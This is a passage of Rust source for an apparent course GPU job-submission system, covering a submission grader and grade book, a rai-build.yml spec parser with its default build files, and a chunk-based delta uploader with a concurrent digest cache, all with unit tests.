    /// A grader over the deployment's database/store/images.
    pub fn new(db: Database, store: ObjectStore, images: Arc<ImageRegistry>) -> Self {
        Grader { db, store, images }
    }

    /// Query the ranking database for final submissions and download
    /// each team's build archive from the file server.
    pub fn download_final_submissions(&self) -> Vec<FinalSubmission> {
        let rows = self.db.collection("rankings").read().find(&doc! {});
        let mut out = Vec::new();
        for row in rows {
            let (Some(team), Some(secs), Some(key)) = (
                row.get("team").and_then(|v| v.as_str()),
                row.get("runtime_secs").and_then(|v| v.as_f64()),
                row.get("build_key").and_then(|v| v.as_str()),
            ) else {
                continue;
            };
            let Ok(obj) = self.store.get(BUILD_BUCKET, key) else {
                continue;
            };
            let Ok(tree) = restore(&obj.data) else { continue };
            out.push(FinalSubmission {
                team: team.to_string(),
                recorded_secs: secs,
                tree,
            });
        }
        out.sort_by(|a, b| a.team.cmp(&b.team));
        out
    }

    /// Delete unneeded files from a downloaded submission: make
    /// intermediates and copies of the provided dataset.
    pub fn clean_submission(tree: &mut FileTree) -> usize {
        let doomed: Vec<String> = tree
            .paths()
            .filter(|p| {
                p.ends_with(".o")
                    || p.ends_with(".nvprof")
                    || p.ends_with("Makefile")
                    || p.ends_with(".hdf5")
                    || p.contains("CMakeFiles/")
            })
            .map(str::to_string)
            .collect();
        for p in &doomed {
            tree.remove(p);
        }
        doomed.len()
    }

    /// Check the paper's required final-submission files against the
    /// submitted source snapshot.
    pub fn check_required_files(submission_code: &FileTree) -> RequiredFileReport {
        let mut missing = Vec::new();
        for name in ["USAGE", "report.pdf"] {
            if !submission_code.contains(name) {
                missing.push(match name {
                    "USAGE" => "USAGE",
                    _ => "report.pdf",
                });
            }
        }
        let has_source = submission_code
            .paths()
            .any(|p| [".cu", ".cpp", ".cc", ".c"].iter().any(|s| p.ends_with(s)));
        if !has_source {
            missing.push("source code");
        }
        RequiredFileReport { missing }
    }

    /// Re-run a submission's source `runs` times under the enforced
    /// final build file and return the minimum observed runtime — the
    /// paper's "rerun the students' submissions multiple times and
    /// display the minimum time".
    pub fn rerun_min_time(&self, submission_code: &FileTree, runs: usize, seed: u64) -> Option<f64> {
        let spec = BuildSpec::final_submission_spec();
        let image = self.images.resolve(&spec.image).ok()?.clone();
        let mut rng = StdRng::seed_from_u64(seed);
        let mut best: Option<f64> = None;
        for _ in 0..runs.max(1) {
            let mut container = Container::create(&image, ResourceLimits::default());
            container.mount("/src", submission_code);
            // Each grading run sees slightly different machine noise.
            container.set_time_dilation(1.0 + rng.gen_range(0.0..0.05));
            container.run_script(spec.build.iter().map(String::as_str));
            let report = container.destroy();
            if let Some(secs) = report.internal_timer_secs() {
                best = Some(best.map_or(secs, |b: f64| b.min(secs)));
            }
        }
        best
    }

    /// Performance points (0–30): full marks at or under `full_at`
    /// seconds, linearly down to 0 at `zero_at` (log-ish competitions
    /// often use steps; linear keeps the model transparent).
    pub fn performance_points(secs: f64, full_at: f64, zero_at: f64) -> f64 {
        if secs <= full_at {
            30.0
        } else if secs >= zero_at {
            0.0
        } else {
            30.0 * (zero_at - secs) / (zero_at - full_at)
        }
    }

    /// Correctness points (0–20): full marks at or above the target
    /// accuracy, zero below the floor.
    pub fn correctness_points(accuracy: f64, target: f64) -> f64 {
        if accuracy >= target {
            20.0
        } else if accuracy <= target - 0.05 {
            0.0
        } else {
            20.0 * (accuracy - (target - 0.05)) / 0.05
        }
    }

    /// Assemble a grade report from the automated measurements plus the
    /// human-graded components.
    #[allow(clippy::too_many_arguments)]
    pub fn grade(
        &self,
        team: &str,
        measured_secs: f64,
        accuracy: f64,
        accuracy_target: f64,
        perf_full_at: f64,
        perf_zero_at: f64,
        code_quality: f64,
        written_report: f64,
    ) -> GradeReport {
        GradeReport {
            team: team.to_string(),
            performance: Self::performance_points(measured_secs, perf_full_at, perf_zero_at),
            correctness: Self::correctness_points(accuracy, accuracy_target),
            code_quality: code_quality.clamp(0.0, 10.0),
            written_report: written_report.clamp(0.0, 40.0),
        }
    }
}

/// The grade book: renders per-team grade reports and records them in
/// the database — "a grade report for each team was then generated by
/// combining the automated and manual feedback. The grade report was
/// then posted onto the University's grade management system" (§VII).
pub struct GradeBook {
    db: Database,
}

impl GradeBook {
    /// A grade book over the deployment's database.
    pub fn new(db: Database) -> Self {
        GradeBook { db }
    }

    /// Record a grade (idempotent per team: re-grading overwrites) and
    /// return the rendered report text that gets posted.
    pub fn post(&self, report: &GradeReport, notes: &str) -> String {
        self.db.collection("grades").write().update_one(
            &doc! { "team" => report.team.as_str() },
            &doc! { "$set" => doc!{
                "performance" => report.performance,
                "correctness" => report.correctness,
                "code_quality" => report.code_quality,
                "written_report" => report.written_report,
                "total" => report.total(),
                "notes" => notes,
            } },
            true,
        );
        Self::render(report, notes)
    }

    /// The posted grade for a team, if any: `(total, notes)`.
    pub fn grade_of(&self, team: &str) -> Option<(f64, String)> {
        let row = self
            .db
            .collection("grades")
            .read()
            .find_one(&doc! { "team" => team })?;
        Some((
            row.get("total")?.as_f64()?,
            row.get("notes")?.as_str()?.to_string(),
        ))
    }

    /// Render the report text.
    pub fn render(report: &GradeReport, notes: &str) -> String {
        format!(
            "ECE408 Project Grade Report — {team}\n\
             ------------------------------------\n\
             Performance (30%):          {perf:>5.1} / 30\n\
             Functionality (20%):        {corr:>5.1} / 20\n\
             Code quality (10%):         {qual:>5.1} / 10\n\
             Written report (40%):       {rep:>5.1} / 40\n\
             ------------------------------------\n\
             Total:                      {total:>5.1} / 100\n\
             Notes: {notes}\n",
            team = report.team,
            perf = report.performance,
            corr = report.correctness,
            qual = report.code_quality,
            rep = report.written_report,
            total = report.total(),
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::client::ProjectDir;

    #[test]
    fn required_files_check() {
        let complete = ProjectDir::sample_cuda_project().with_final_artifacts();
        assert!(Grader::check_required_files(&complete.tree).complete());

        let missing = ProjectDir::sample_cuda_project();
        let report = Grader::check_required_files(&missing.tree);
        assert_eq!(report.missing, vec!["USAGE", "report.pdf"]);

        let empty = FileTree::new().with("USAGE", &b"u"[..]).with("report.pdf", &b"r"[..]);
        assert_eq!(Grader::check_required_files(&empty).missing, vec!["source code"]);
    }

    #[test]
    fn clean_removes_intermediates_only() {
        let mut tree = FileTree::new()
            .with("submission_code/main.cu", &b"x"[..])
            .with("Makefile", &b"m"[..])
            .with("main.o", &b"o"[..])
            .with("timeline.nvprof", &b"p"[..])
            .with("data/test10.hdf5", &b"d"[..])
            .with("ece408", &b"bin"[..]);
        let removed = Grader::clean_submission(&mut tree);
        assert_eq!(removed, 4);
        assert!(tree.contains("submission_code/main.cu"));
        assert!(tree.contains("ece408"));
    }

    #[test]
    fn rerun_min_time_takes_minimum() {
        let db = Database::new();
        let store = ObjectStore::new(rai_sim::VirtualClock::new());
        let grader = Grader::new(db, store, Arc::new(ImageRegistry::course_default()));
        let project = ProjectDir::cuda_project_with_perf(470.0, 0.93, 1024).with_final_artifacts();
        let min5 = grader.rerun_min_time(&project.tree, 5, 42).unwrap();
        let single = grader.rerun_min_time(&project.tree, 1, 43).unwrap();
        // The minimum over 5 noisy runs is at most any single run.
        assert!(min5 <= single + 1e-9);
        // And close to the true 0.505s.
        assert!((0.5..0.56).contains(&min5), "got {min5}");
    }

    #[test]
    fn grading_scale() {
        assert_eq!(Grader::performance_points(0.4, 1.0, 120.0), 30.0);
        assert_eq!(Grader::performance_points(120.0, 1.0, 120.0), 0.0);
        let mid = Grader::performance_points(60.0, 1.0, 120.0);
        assert!(mid > 0.0 && mid < 30.0);
        assert_eq!(Grader::correctness_points(0.93, 0.9), 20.0);
        assert_eq!(Grader::correctness_points(0.5, 0.9), 0.0);
        let part = Grader::correctness_points(0.88, 0.9);
        assert!(part > 0.0 && part < 20.0);
    }

    #[test]
    fn grade_book_posts_and_overwrites() {
        let db = Database::new();
        let book = GradeBook::new(db.clone());
        let report = GradeReport {
            team: "t".into(),
            performance: 28.0,
            correctness: 20.0,
            code_quality: 8.0,
            written_report: 35.0,
        };
        let text = book.post(&report, "solid tiling work");
        assert!(text.contains("91.0 / 100"));
        assert!(text.contains("solid tiling work"));
        assert_eq!(book.grade_of("t"), Some((91.0, "solid tiling work".into())));
        // Re-grade overwrites, one row per team.
        let regraded = GradeReport {
            written_report: 38.0,
            ..report
        };
        book.post(&regraded, "after regrade request");
        assert_eq!(book.grade_of("t").unwrap().0, 94.0);
        assert_eq!(db.collection("grades").read().len(), 1);
        assert_eq!(book.grade_of("ghost"), None);
    }

    #[test]
    fn grade_report_total() {
        let db = Database::new();
        let store = ObjectStore::new(rai_sim::VirtualClock::new());
        let g = Grader::new(db, store, Arc::new(ImageRegistry::course_default()));
        let r = g.grade("t", 0.5, 0.93, 0.9, 1.0, 120.0, 9.0, 36.0);
        assert_eq!(r.performance, 30.0);
        assert_eq!(r.correctness, 20.0);
        assert_eq!(r.total(), 95.0);
        // Clamping of manual scores.
        let r2 = g.grade("t", 0.5, 0.93, 0.9, 1.0, 120.0, 99.0, 99.0);
        assert_eq!(r2.code_quality, 10.0);
        assert_eq!(r2.written_report, 40.0);
    }
}
