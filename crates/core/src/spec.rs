//! `rai-build.yml` — the execution specification (paper §V).
//!
//! "The build file is split into a configuration section and a command
//! section… architected to be minimal, allowing it to be extended for
//! future changes."

use rai_yaml::{parse, Yaml};

/// The client/spec version this implementation understands.
pub const SUPPORTED_VERSION: f64 = 0.1;

/// A parsed, validated build specification.
#[derive(Clone, Debug, PartialEq)]
pub struct BuildSpec {
    /// `rai.version` — client version the file targets.
    pub version: f64,
    /// `rai.image` — Docker base image (whitelist enforced worker-side).
    pub image: String,
    /// `commands.build` — the commands run in the container, in order.
    pub build: Vec<String>,
    /// `resources.gpus` — optional machine requirement (the paper names
    /// this as the expected future extension; supported here).
    pub gpus: Option<u32>,
    /// `resources.network` — optional network request (instructor
    /// sessions only; ignored for student jobs).
    pub network: bool,
}

/// Spec validation errors.
#[derive(Clone, Debug, PartialEq)]
pub enum SpecError {
    /// YAML did not parse.
    Yaml(String),
    /// Missing or non-mapping `rai` section.
    MissingRaiSection,
    /// Missing/invalid version.
    BadVersion(String),
    /// Unsupported version number.
    UnsupportedVersion(f64),
    /// Missing or empty image.
    MissingImage,
    /// Missing or empty `commands.build`.
    MissingBuildCommands,
    /// A build command was not a scalar.
    BadCommand(usize),
}

impl std::fmt::Display for SpecError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            SpecError::Yaml(e) => write!(f, "rai-build.yml: {e}"),
            SpecError::MissingRaiSection => write!(f, "rai-build.yml: missing `rai:` section"),
            SpecError::BadVersion(v) => write!(f, "rai-build.yml: bad version {v:?}"),
            SpecError::UnsupportedVersion(v) => {
                write!(f, "rai-build.yml: unsupported version {v} (client supports {SUPPORTED_VERSION})")
            }
            SpecError::MissingImage => write!(f, "rai-build.yml: missing `rai.image`"),
            SpecError::MissingBuildCommands => {
                write!(f, "rai-build.yml: missing `commands.build` list")
            }
            SpecError::BadCommand(i) => write!(f, "rai-build.yml: build command #{i} is not a string"),
        }
    }
}

impl std::error::Error for SpecError {}

/// Paper Listing 1 — the default build file used "when a student-written
/// rai-build.yml is not found".
pub const DEFAULT_BUILD_YML: &str = "\
rai:
  version: 0.1
  image: webgpu/rai:root
commands:
  build:
    - echo \"Building project\"
    - cmake /src
    - make
    - ./ece408 /data/test10.hdf5 /data/model.hdf5
    - nvprof --export-profile timeline.nvprof
      ./ece408 /data/test10.hdf5 /data/model.hdf5
";

/// Paper Listing 2 — the enforced final-submission build file ("the
/// student's local rai-build.yml file is ignored — this is used to
/// maintain consistency between all team submissions").
pub const FINAL_SUBMISSION_YML: &str = "\
rai:
  version: 0.1
  image: webgpu/rai:root
commands:
  build:
    - echo \"Submitting project\"
    - cp -r /src /build/submission_code
    - cmake /src
    - make
    - /usr/bin/time ./ece408 /data/testfull.hdf5
      /data/model.hdf5 10000
";

impl BuildSpec {
    /// Parse and validate a build file.
    pub fn parse(text: &str) -> Result<BuildSpec, SpecError> {
        let doc = parse(text).map_err(|e| SpecError::Yaml(e.to_string()))?;
        let rai = doc
            .get("rai")
            .and_then(Yaml::as_map)
            .ok_or(SpecError::MissingRaiSection)?;
        let _ = rai;
        let version = match doc.path(&["rai", "version"]) {
            Some(v) => v
                .as_f64()
                .ok_or_else(|| SpecError::BadVersion(format!("{v:?}")))?,
            None => return Err(SpecError::BadVersion("missing".to_string())),
        };
        if version > SUPPORTED_VERSION {
            return Err(SpecError::UnsupportedVersion(version));
        }
        let image = doc
            .path(&["rai", "image"])
            .and_then(Yaml::as_str)
            .filter(|s| !s.is_empty())
            .ok_or(SpecError::MissingImage)?
            .to_string();
        let build_yaml = doc
            .path(&["commands", "build"])
            .and_then(Yaml::as_seq)
            .ok_or(SpecError::MissingBuildCommands)?;
        if build_yaml.is_empty() {
            return Err(SpecError::MissingBuildCommands);
        }
        let mut build = Vec::with_capacity(build_yaml.len());
        for (i, cmd) in build_yaml.iter().enumerate() {
            match cmd.scalar_to_string() {
                Some(s) if !s.is_empty() => build.push(s),
                _ => return Err(SpecError::BadCommand(i)),
            }
        }
        let gpus = doc
            .path(&["resources", "gpus"])
            .and_then(Yaml::as_i64)
            .map(|g| g.max(0) as u32);
        let network = doc
            .path(&["resources", "network"])
            .and_then(Yaml::as_bool)
            .unwrap_or(false);
        Ok(BuildSpec {
            version,
            image,
            build,
            gpus,
            network,
        })
    }

    /// The Listing 1 default spec.
    pub fn default_spec() -> BuildSpec {
        Self::parse(DEFAULT_BUILD_YML).expect("bundled default must parse")
    }

    /// The Listing 2 enforced final-submission spec.
    pub fn final_submission_spec() -> BuildSpec {
        Self::parse(FINAL_SUBMISSION_YML).expect("bundled final spec must parse")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn default_spec_matches_listing_1() {
        let s = BuildSpec::default_spec();
        assert_eq!(s.version, 0.1);
        assert_eq!(s.image, "webgpu/rai:root");
        assert_eq!(s.build.len(), 5);
        assert_eq!(s.build[0], "echo \"Building project\"");
        assert_eq!(s.build[1], "cmake /src");
        assert_eq!(s.build[2], "make");
        assert!(s.build[4].starts_with("nvprof --export-profile timeline.nvprof"));
        assert!(s.build[4].ends_with("./ece408 /data/test10.hdf5 /data/model.hdf5"));
    }

    #[test]
    fn final_spec_matches_listing_2() {
        let s = BuildSpec::final_submission_spec();
        assert_eq!(s.build.len(), 5);
        assert_eq!(s.build[1], "cp -r /src /build/submission_code");
        assert_eq!(
            s.build[4],
            "/usr/bin/time ./ece408 /data/testfull.hdf5 /data/model.hdf5 10000"
        );
    }

    #[test]
    fn future_machine_requirements_parse() {
        // The extension the paper anticipates: "We may want to specify
        // the machine requirements (such as the number of GPUs)".
        let text = "rai:\n  version: 0.1\n  image: webgpu/rai:root\nresources:\n  gpus: 2\n  network: true\ncommands:\n  build:\n    - make\n";
        let s = BuildSpec::parse(text).unwrap();
        assert_eq!(s.gpus, Some(2));
        assert!(s.network);
    }

    #[test]
    fn validation_errors() {
        assert_eq!(
            BuildSpec::parse("commands:\n  build:\n    - make\n"),
            Err(SpecError::MissingRaiSection)
        );
        assert!(matches!(
            BuildSpec::parse("rai:\n  image: x\ncommands:\n  build:\n    - make\n"),
            Err(SpecError::BadVersion(_))
        ));
        assert_eq!(
            BuildSpec::parse("rai:\n  version: 9.9\n  image: x\ncommands:\n  build:\n    - make\n"),
            Err(SpecError::UnsupportedVersion(9.9))
        );
        assert_eq!(
            BuildSpec::parse("rai:\n  version: 0.1\ncommands:\n  build:\n    - make\n"),
            Err(SpecError::MissingImage)
        );
        assert_eq!(
            BuildSpec::parse("rai:\n  version: 0.1\n  image: x\n"),
            Err(SpecError::MissingBuildCommands)
        );
        assert_eq!(
            BuildSpec::parse("rai:\n  version: 0.1\n  image: x\ncommands:\n  build: []\n"),
            Err(SpecError::MissingBuildCommands)
        );
        assert!(matches!(
            BuildSpec::parse("rai:\n  version: 0.1\n  image: x\ncommands:\n  build:\n    - [1]\n"),
            Err(SpecError::BadCommand(0))
        ));
        assert!(matches!(
            BuildSpec::parse("rai: 'unterminated"),
            Err(SpecError::Yaml(_))
        ));
    }

    #[test]
    fn older_versions_accepted() {
        let text = "rai:\n  version: 0.05\n  image: x\ncommands:\n  build:\n    - make\n";
        assert!(BuildSpec::parse(text).is_ok());
    }
}
