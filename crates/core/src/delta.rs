//! Uploader side of the store's delta protocol (DESIGN.md §10).
//!
//! Both the client (project uploads) and the worker (`/build` output
//! uploads) ship payloads as chunk manifests: the payload is split
//! with the same content-defined chunker the store uses, a local
//! digest cache plus one [`rai_store::ObjectStore::has_chunks`] round
//! trip decide which chunks the store is missing, and only those cross
//! the wire via [`rai_store::ObjectStore::put_delta`]. Re-submissions
//! of a near-identical project tree therefore upload a few hundred
//! bytes instead of the whole archive — the paper's dominant workload
//! (30 782 submissions in the final two weeks, most of them retries).

use rai_archive::chunk::{chunk_bytes, chunk_bytes_on, Chunk, ChunkManifest, ChunkerParams};
use rai_exec::Executor;
use rai_store::{ObjectStore, StoreError};
use parking_lot::RwLock;
use std::collections::{BTreeMap, HashSet};
use std::sync::atomic::{AtomicU64, Ordering};

/// A payload already split into its chunk manifest, ready to commit.
///
/// Preparation (content-defined chunking + digesting) is the pure,
/// CPU-bound half of a delta upload; committing it (`has_chunks` +
/// `put_delta`) is the half that talks to the store. The job scheduler
/// (DESIGN.md §15) prepares uploads on pool tasks during the execute
/// phase and commits them serially, so store traffic — and with it the
/// fault-draw stream — stays in deterministic claim order.
#[derive(Clone, Debug)]
pub struct PreparedUpload {
    manifest: ChunkManifest,
    chunks: Vec<Chunk>,
}

impl PreparedUpload {
    /// Chunk `payload` with the store's default parameters. Chunk
    /// boundaries and digests are a pure function of the bytes, so a
    /// prepared upload is byte-identical no matter where (or how
    /// concurrently) it was prepared.
    pub fn prepare(payload: &[u8]) -> Self {
        let (manifest, chunks) = chunk_bytes(payload, ChunkerParams::DEFAULT);
        PreparedUpload { manifest, chunks }
    }

    /// Chunks the payload splits into.
    pub fn chunks_total(&self) -> usize {
        self.manifest.chunks.len()
    }

    /// Logical payload size in bytes.
    pub fn bytes_logical(&self) -> u64 {
        self.manifest.total_len
    }

    /// The chunk digests this upload references, in manifest order.
    /// Lane schedulers compare these across a batch: two uploads
    /// sharing a digest would race their dedup outcome (who admits,
    /// who hits — and therefore who pays wire bytes), so overlapping
    /// batches fall back to serial commit order.
    pub fn chunk_digests(&self) -> impl Iterator<Item = u64> + '_ {
        self.manifest.chunks.iter().map(|r| r.digest)
    }
}

/// What a delta upload actually cost.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct DeltaReceipt {
    /// Etag of the uploaded object.
    pub etag: String,
    /// Chunks the payload splits into.
    pub chunks_total: usize,
    /// Chunks that had to cross the wire.
    pub chunks_sent: usize,
    /// Chunk bytes that crossed the wire (manifest overhead excluded).
    pub bytes_sent: u64,
    /// Logical payload size.
    pub bytes_logical: u64,
}

impl DeltaReceipt {
    /// Total bytes on the wire: sent chunks plus the manifest
    /// encoding (16-byte header + 12 bytes per chunk reference,
    /// mirroring [`rai_archive::chunk::ChunkManifest::encoded_len`]).
    pub fn wire_bytes(&self) -> u64 {
        self.bytes_sent + 16 + 12 * self.chunks_total as u64
    }
}

/// Stripe count of the concurrent digest cache. Digests scatter by
/// their low bits; readers on distinct stripes never share a lock.
const CACHE_STRIPES: usize = 16;

/// The uploader's generation-stamped concurrent digest memo (the
/// cs431 concurrent-memoization shape). Lookups take a per-stripe
/// *read* lock — concurrent claim lanes probing the cache never block
/// one another — and the only writers are the post-commit insert and
/// the `MissingChunks` self-heal eviction.
///
/// The generation counter closes the lost-eviction race: an insert
/// records the generation it *observed* before its store round trip,
/// and is skipped if an eviction advanced the counter in between.
/// Without the stamp, this interleaving re-poisons the cache —
/// upload A observes digest `d` resident, the store garbage-collects
/// `d`, upload B's failure evicts `d`, then A's late insert puts the
/// now-stale `d` back. Skipping a racing insert merely costs one
/// future `has_chunks` query; the cache is a hint either way.
struct DigestCache {
    stripes: Vec<RwLock<HashSet<u64>>>,
    generation: AtomicU64,
}

impl DigestCache {
    fn new() -> Self {
        DigestCache {
            stripes: (0..CACHE_STRIPES).map(|_| RwLock::new(HashSet::new())).collect(),
            generation: AtomicU64::new(0),
        }
    }

    fn stripe_of(&self, digest: u64) -> usize {
        (digest as usize) % self.stripes.len()
    }

    /// Current eviction generation; pass the observed value back to
    /// [`DigestCache::insert_if_current`].
    fn generation(&self) -> u64 {
        self.generation.load(Ordering::Acquire)
    }

    /// Shared-lock lookup: never blocks other readers.
    fn contains(&self, digest: u64) -> bool {
        self.stripes[self.stripe_of(digest)].read().contains(&digest)
    }

    /// Insert `digests` only if no eviction intervened since
    /// `observed_generation` was read (ABA guard; see type docs).
    fn insert_if_current(&self, digests: impl Iterator<Item = u64>, observed_generation: u64) {
        if self.generation.load(Ordering::Acquire) != observed_generation {
            return;
        }
        for d in digests {
            self.stripes[self.stripe_of(d)].write().insert(d);
        }
    }

    /// Drop stale digests and advance the generation, invalidating any
    /// insert still in flight against the old one.
    fn evict(&self, digests: &[u64]) {
        for d in digests {
            self.stripes[self.stripe_of(*d)].write().remove(d);
        }
        self.generation.fetch_add(1, Ordering::Release);
    }

    fn len(&self) -> usize {
        self.stripes.iter().map(|s| s.read().len()).sum()
    }
}

/// A delta-capable uploader with a digest cache.
///
/// The cache remembers digests the store has confirmed resident, so
/// steady-state re-uploads skip even the `has_chunks` query for
/// unchanged chunks. It is only a hint: if the store garbage-collected
/// a cached chunk in the meantime, `put_delta` fails atomically with
/// [`StoreError::MissingChunks`], the stale entries are dropped, and
/// the upload retries with a fresh query. The cache is a
/// generation-stamped concurrent memo (`DigestCache`), so concurrent
/// claim lanes probe it on shared locks without serializing.
pub struct DeltaUploader {
    params: ChunkerParams,
    cache: DigestCache,
    /// Executor the chunk/digest pass runs on. Sequential by default;
    /// a pool routes the re-hash of payload bytes across workers
    /// (DESIGN.md §12) without changing a single manifest byte.
    executor: Executor,
}

impl Default for DeltaUploader {
    fn default() -> Self {
        Self::new()
    }
}

impl DeltaUploader {
    /// An uploader with the store's default chunker parameters.
    pub fn new() -> Self {
        Self::with_executor(Executor::sequential())
    }

    /// An uploader whose chunking + digesting runs on `exec`.
    pub fn with_executor(executor: Executor) -> Self {
        DeltaUploader {
            params: ChunkerParams::DEFAULT,
            cache: DigestCache::new(),
            executor,
        }
    }

    /// Digests currently cached as store-resident.
    pub fn cached(&self) -> usize {
        self.cache.len()
    }

    /// Chunk `payload` on this uploader's executor, ready for
    /// [`DeltaUploader::upload_prepared`]. Identical to
    /// [`PreparedUpload::prepare`] byte for byte (DESIGN.md §12).
    pub fn prepare(&self, payload: &[u8]) -> PreparedUpload {
        let (manifest, chunks) = chunk_bytes_on(&self.executor, payload, self.params);
        PreparedUpload { manifest, chunks }
    }

    /// Upload `payload` to `bucket/key` sending only missing chunks.
    ///
    /// Transient [`StoreError::Unavailable`] from either protocol step
    /// is returned to the caller, whose existing retry policy applies
    /// (a retry is cheap: the cache already holds everything the first
    /// attempt got confirmed or stored).
    pub fn upload(
        &self,
        store: &ObjectStore,
        bucket: &str,
        key: &str,
        payload: &[u8],
        user_meta: impl IntoIterator<Item = (String, String)>,
    ) -> Result<DeltaReceipt, StoreError> {
        self.upload_prepared(store, bucket, key, &self.prepare(payload), user_meta)
    }

    /// Commit an already-prepared upload, sending only the chunks the
    /// store is missing. Retrying a transient failure with the same
    /// [`PreparedUpload`] skips the chunking pass entirely.
    pub fn upload_prepared(
        &self,
        store: &ObjectStore,
        bucket: &str,
        key: &str,
        prepared: &PreparedUpload,
        user_meta: impl IntoIterator<Item = (String, String)>,
    ) -> Result<DeltaReceipt, StoreError> {
        let PreparedUpload { manifest, chunks } = prepared;
        let by_digest: BTreeMap<u64, &Chunk> = chunks.iter().map(|c| (c.digest, c)).collect();
        let user_meta: Vec<(String, String)> = user_meta.into_iter().collect();

        // First pass trusts the cache; a second pass (after a
        // MissingChunks rejection) bypasses it. The cache probe runs
        // on shared stripe locks, and the post-commit insert carries
        // the generation observed *before* the store round trip so a
        // racing eviction wins (see [`DigestCache`]).
        for trust_cache in [true, false] {
            let observed_generation = self.cache.generation();
            let unknown: Vec<u64> = by_digest
                .keys()
                .filter(|d| !(trust_cache && self.cache.contains(**d)))
                .copied()
                .collect();
            let resident = store.has_chunks(&unknown)?;
            let to_send: Vec<Chunk> = unknown
                .iter()
                .zip(&resident)
                .filter(|(_, &r)| !r)
                .map(|(d, _)| (*by_digest.get(d).expect("digest from payload")).clone())
                .collect();
            match store.put_delta(bucket, key, manifest, &to_send, user_meta.clone()) {
                Ok(etag) => {
                    self.cache
                        .insert_if_current(by_digest.keys().copied(), observed_generation);
                    return Ok(DeltaReceipt {
                        etag,
                        chunks_total: manifest.chunks.len(),
                        chunks_sent: to_send.len(),
                        bytes_sent: to_send.iter().map(|c| c.data.len() as u64).sum(),
                        bytes_logical: manifest.total_len,
                    });
                }
                Err(StoreError::MissingChunks { missing }) if trust_cache => {
                    self.cache.evict(&missing);
                }
                Err(e) => return Err(e),
            }
        }
        unreachable!("second pass never yields MissingChunks: it queried every digest");
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rai_sim::VirtualClock;
    use rai_store::LifecycleRule;

    fn store() -> ObjectStore {
        let s = ObjectStore::new(VirtualClock::new());
        s.create_bucket("b", LifecycleRule::Keep).unwrap();
        s
    }

    fn payload(len: usize, seed: u64) -> Vec<u8> {
        let mut state = seed;
        (0..len)
            .map(|_| {
                state = state
                    .wrapping_mul(6364136223846793005)
                    .wrapping_add(1442695040888963407);
                (state >> 33) as u8
            })
            .collect()
    }

    #[test]
    fn first_upload_ships_everything_second_nothing() {
        let s = store();
        let up = DeltaUploader::new();
        let data = payload(8000, 1);
        let r1 = up.upload(&s, "b", "k1", &data, []).unwrap();
        assert_eq!(r1.chunks_sent, r1.chunks_total);
        assert_eq!(r1.bytes_sent, 8000);
        let r2 = up.upload(&s, "b", "k2", &data, []).unwrap();
        assert_eq!(r2.chunks_sent, 0, "identical content re-uses every chunk");
        assert_eq!(r2.bytes_sent, 0);
        assert_eq!(s.get("b", "k2").unwrap().data.as_ref(), &data[..]);
        assert_eq!(r1.etag, r2.etag);
    }

    #[test]
    fn small_edit_ships_only_changed_chunks() {
        let s = store();
        let up = DeltaUploader::new();
        let base = payload(16_000, 2);
        up.upload(&s, "b", "v1", &base, []).unwrap();
        let mut edited = base.clone();
        edited[8_000] ^= 0xFF;
        let r = up.upload(&s, "b", "v2", &edited, []).unwrap();
        assert!(
            r.bytes_sent < 4_000,
            "one-byte edit resent {} of {} bytes",
            r.bytes_sent,
            r.bytes_logical
        );
        assert_eq!(s.get("b", "v2").unwrap().data.as_ref(), &edited[..]);
    }

    #[test]
    fn fresh_uploader_still_dedups_via_has_chunks() {
        let s = store();
        let data = payload(8000, 3);
        DeltaUploader::new().upload(&s, "b", "k1", &data, []).unwrap();
        // New uploader, empty cache — the has_chunks query discovers
        // the resident chunks (this is the per-client-process case).
        let r = DeltaUploader::new().upload(&s, "b", "k2", &data, []).unwrap();
        assert_eq!(r.chunks_sent, 0);
    }

    #[test]
    fn stale_cache_recovers_after_store_gc() {
        let s = store();
        let up = DeltaUploader::new();
        let data = payload(8000, 4);
        up.upload(&s, "b", "k", &data, []).unwrap();
        assert!(up.cached() > 0);
        // The store drops the object (and with it every chunk), but
        // the uploader's cache still claims residency.
        s.delete("b", "k").unwrap();
        let r = up.upload(&s, "b", "k", &data, []).unwrap();
        assert_eq!(r.chunks_sent, r.chunks_total, "retry resent everything");
        assert_eq!(s.get("b", "k").unwrap().data.as_ref(), &data[..]);
    }

    #[test]
    fn unavailable_surfaces_to_caller() {
        let s = store();
        let up = DeltaUploader::new();
        s.inject_faults(1);
        let err = up.upload(&s, "b", "k", &payload(1000, 5), []).unwrap_err();
        assert_eq!(err, StoreError::Unavailable);
        // Next attempt succeeds (budget exhausted).
        assert!(up.upload(&s, "b", "k", &payload(1000, 5), []).is_ok());
    }

    #[test]
    fn pool_uploader_matches_sequential_receipts() {
        // Large enough to clear the parallel chunking threshold, so
        // the pool path really runs — receipts and stored bytes must
        // be identical to the sequential reference at every width.
        let base = payload(96_000, 7);
        let mut edited = base.clone();
        edited[48_000] ^= 0x5A;
        let reference = {
            let s = store();
            let up = DeltaUploader::new();
            let r1 = up.upload(&s, "b", "v1", &base, []).unwrap();
            let r2 = up.upload(&s, "b", "v2", &edited, []).unwrap();
            (r1, r2)
        };
        for threads in [2, 8] {
            let s = store();
            let up = DeltaUploader::with_executor(Executor::new(threads));
            let r1 = up.upload(&s, "b", "v1", &base, []).unwrap();
            let r2 = up.upload(&s, "b", "v2", &edited, []).unwrap();
            assert_eq!((r1, r2), reference, "receipt drift at threads={threads}");
            assert_eq!(s.get("b", "v2").unwrap().data.as_ref(), &edited[..]);
        }
    }

    #[test]
    fn digest_cache_generation_guard_drops_racing_insert() {
        let c = DigestCache::new();
        let g = c.generation();
        c.insert_if_current([1u64, 2, 3].into_iter(), g);
        assert!(c.contains(1) && c.contains(2) && c.contains(3));
        assert_eq!(c.len(), 3);
        // An eviction invalidates any insert stamped with an older
        // generation — the lost-eviction interleaving from the type
        // docs must not re-poison the cache.
        let stale = c.generation();
        c.evict(&[2]);
        c.insert_if_current([2u64, 9].into_iter(), stale);
        assert!(!c.contains(2), "stale insert must not land after eviction");
        assert!(!c.contains(9), "whole stale batch is dropped");
        // A fresh observation inserts normally.
        c.insert_if_current([9u64].into_iter(), c.generation());
        assert!(c.contains(9));
    }

    #[test]
    fn concurrent_cache_probes_share_read_locks() {
        // Many threads probing one warmed uploader cache concurrently:
        // all succeed with zero chunks sent, exercising the shared
        // stripe-read path under real parallelism.
